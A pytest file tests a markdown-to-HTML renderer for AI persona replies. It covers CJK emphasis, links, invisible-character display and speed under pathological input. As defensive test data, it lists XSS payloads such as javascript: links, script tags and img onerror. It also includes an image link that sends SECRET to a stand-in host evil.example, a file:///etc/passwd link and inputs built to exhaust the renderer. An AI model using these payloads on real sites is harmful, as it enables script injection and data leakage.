"""What personas say, as HTML."""

from __future__ import annotations

import time

import pytest

from rolebook.report.markdown import render_markdown
from rolebook.report.visible import visible

LINK = ' target="_blank" rel="noopener noreferrer"'
KILOBYTES_29 = 29_000


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**注意：**请", "<strong>注意：</strong>请"),
        ("他说**“好”**了", "他说<strong>“好”</strong>了"),
        ("这是**重点（很重要）**内容", "这是<strong>重点（很重要）</strong>内容"),
        ("**「引用」**的话", "<strong>「引用」</strong>的话"),
        ("先*强调。*再说", "先<em>强调。</em>再说"),
        ("**これは「太字」。**です", "<strong>これは「太字」。</strong>です"),
        ("**이것은(굵게)**입니다", "<strong>이것은(굵게)</strong>입니다"),
        ("~~删除。~~了", "<s>删除。</s>了"),
    ],
)
def test_emphasis_needs_no_spaces_in_chinese_japanese_and_korean(text: str, html: str) -> None:
    assert render_markdown(text) == f"<p>{html}</p>\n"


@pytest.mark.parametrize("text", ["snake_case_name", "2 * 3 * 4", "a * b", '"**"', "5**3"])
def test_what_is_no_emphasis_in_english_stays_none(text: str) -> None:
    assert "<em>" not in render_markdown(text)
    assert "<strong>" not in render_markdown(text)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Title", "<h3>Title</h3>"),
        ("##### Deep", "<h6>Deep</h6>"),
        ("a | b\n-|-:\n1 | 2", '<td class="align-right">2</td>'),
        ("- [ ] open\n- [x] done", "<li>☐ open</li>\n<li>☑ done</li>"),
        ("3. three", '<ol start="3">'),
        ("```python\nimport re\n```", '<span class="hl-kn">import</span>'),
        ("```no-such-language\na < b\n```", "<code>a &lt; b\n</code>"),
        ("    indented", '<pre tabindex="0"><code>indented'),
    ],
)
def test_common_markdown_is_set(text: str, html: str) -> None:
    assert html in render_markdown(text)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("[a](https://a.example/b)", f'<a href="https://a.example/b"{LINK}>a</a>'),
        ("[a](mailto:a@b.example)", f'<a href="mailto:a@b.example"{LINK}>a</a>'),
        (
            "see https://a.example/b.",
            f'see <a href="https://a.example/b"{LINK}>https://a.example/b</a>.',
        ),
        (
            "看https://a.example/b，请",
            f'<a href="https://a.example/b"{LINK}>https://a.example/b</a>，请',
        ),
        (
            "(https://a.example/w_(x))",
            f'(<a href="https://a.example/w_(x)"{LINK}>https://a.example/w_(x)</a>)',
        ),
    ],
)
def test_links_open_elsewhere_and_tell_nothing(text: str, html: str) -> None:
    assert html in render_markdown(text)


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](java\tscript:alert(1))",
        "[a](data:text/html,<script>alert(1)</script>)",
        "[a](vbscript:x)",
        "[a](file:///etc/passwd)",
        "[a](/sessions/delete)",
        "[a](//evil.example)",
        "[a]: javascript:alert(1)\n\n[a]",
        "<javascript:alert(1)>",
        "&#106;avascript:alert(1)",
        "ftp://a.example",
        "app.py and readme.md",
    ],
)
def test_everything_else_is_no_link(text: str) -> None:
    assert "<a " not in render_markdown(text)


@pytest.mark.parametrize(
    "text",
    [
        "<script>window.__pwned=1</script>",
        "<img src=x onerror=alert(1)>",
        "<iframe src=https://evil.example></iframe>",
        "<style>*{display:none}</style>",
        "<form action=/x><button>Go</button></form>",
        "<!-- --><svg onload=alert(1)>",
        '[x](https://a.example "><img src=x onerror=alert(1)>")',
        "![x](https://evil.example/?q=SECRET)",
        "![x][1]\n\n[1]: https://evil.example/a.png",
        '```html"><img src=x onerror=1>\n```',
    ],
)
def test_nothing_runs_and_nothing_loads(text: str) -> None:
    html = render_markdown(text)
    for tag in ("<script", "<img", "<iframe", "<style", "<form", "<button", "<svg", "<!--"):
        assert tag not in html


def test_an_image_is_a_link_that_says_what_it_shows() -> None:
    html = render_markdown("![a *cat*](https://a.example/cat.png)")
    assert html == f'<p><a href="https://a.example/cat.png"{LINK}>🖼 a cat</a></p>\n'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\0b\x1b[31m\x07\x7f", "a␀b␛[31m␇␡"),
        ("abc\u202edcba", "abc⟨U+202E⟩dcba"),
        ("zero\u200bwidth\ufeff", "zero⟨U+200B⟩width⟨U+FEFF⟩"),
        ("tag \U000e0041", "tag ⟨U+E0041⟩"),
        ("half \ud83d", "half ⟨U+D83D⟩"),
        ("line\u2028s", "line⟨U+2028⟩s"),
        ("tab\tand\nline\r\nfeed", "tab\tand\nline\nfeed"),
        ("family 👩‍👩‍👧 and 🏴󠁧󠁢󠁥󠁮󠁧󠁿", "family 👩‍👩‍👧 and 🏴󠁧󠁢󠁥󠁮󠁧󠁿"),
    ],
)
def test_what_cannot_be_seen_is_written_out(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert "\0" not in render_markdown(f"`{text}`")


HOSTILE = {
    "brackets": "[" * KILOBYTES_29,
    "images": "![" * (KILOBYTES_29 // 2),
    "links": "[a](" * (KILOBYTES_29 // 4),
    "stars": "*a" * (KILOBYTES_29 // 2),
    "star pairs": "*a**b" * (KILOBYTES_29 // 5),
    "star brackets": "*[" * (KILOBYTES_29 // 2),
    "code spans": "`a``b" * (KILOBYTES_29 // 5),
    "angles": "<" * KILOBYTES_29,
    "quotes": (">" * 50 + "a\n") * (KILOBYTES_29 // 52),
    "lists": "- " * (KILOBYTES_29 // 2),
    "urls": "http://" * (KILOBYTES_29 // 7),
    "mails": "mailto:" * (KILOBYTES_29 // 7),
    "table": "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "|x\n" * 5000,
    "references": "[a\n" * (KILOBYTES_29 // 3),
    "lines": "a\n" * (KILOBYTES_29 // 2),
    "blank code": "```matlab\n" + "\n" * (KILOBYTES_29 // 2) + "```",
    "code": "```csharp\n" + "@a\n" * (KILOBYTES_29 // 4) + "```",
    "megabyte": "[x](" * 250_000,
}


ORDINARY = "A *word* of `code` and **more**, [a link](https://a.example/).\n\n"


@pytest.mark.parametrize("name", HOSTILE)
def test_text_made_to_take_long_does_not(name: str) -> None:
    """Not many times as long as an ordinary text of that length, which is new each time, as known ones are kept."""
    render_markdown("```python\nwarm\n```")
    ordinary = min(
        taken(ORDINARY * (KILOBYTES_29 // len(ORDINARY)) + f"{name} {n}") for n in range(3)
    )
    assert taken(HOSTILE[name]) < 10 * ordinary


def taken(text: str) -> float:
    """Seconds of this thread's own time that it takes to render a text."""
    began = time.thread_time()
    assert render_markdown(text)
    return time.thread_time() - began


def test_brackets_without_end_are_shown_as_they_are() -> None:
    assert render_markdown("[" * 29_000) == '<p class="plain">' + "[" * 29_000 + "</p>"


def test_a_long_honest_answer_is_set() -> None:
    paragraph = "Some *words* with [a link](https://a.example) and `code`. " * 8
    text = "\n\n".join(f"## Part {i}\n\n{paragraph}\n\n- one\n- two" for i in range(60))
    html = render_markdown(text)
    assert html.count("<h4>") == 60
    assert 'class="plain"' not in html
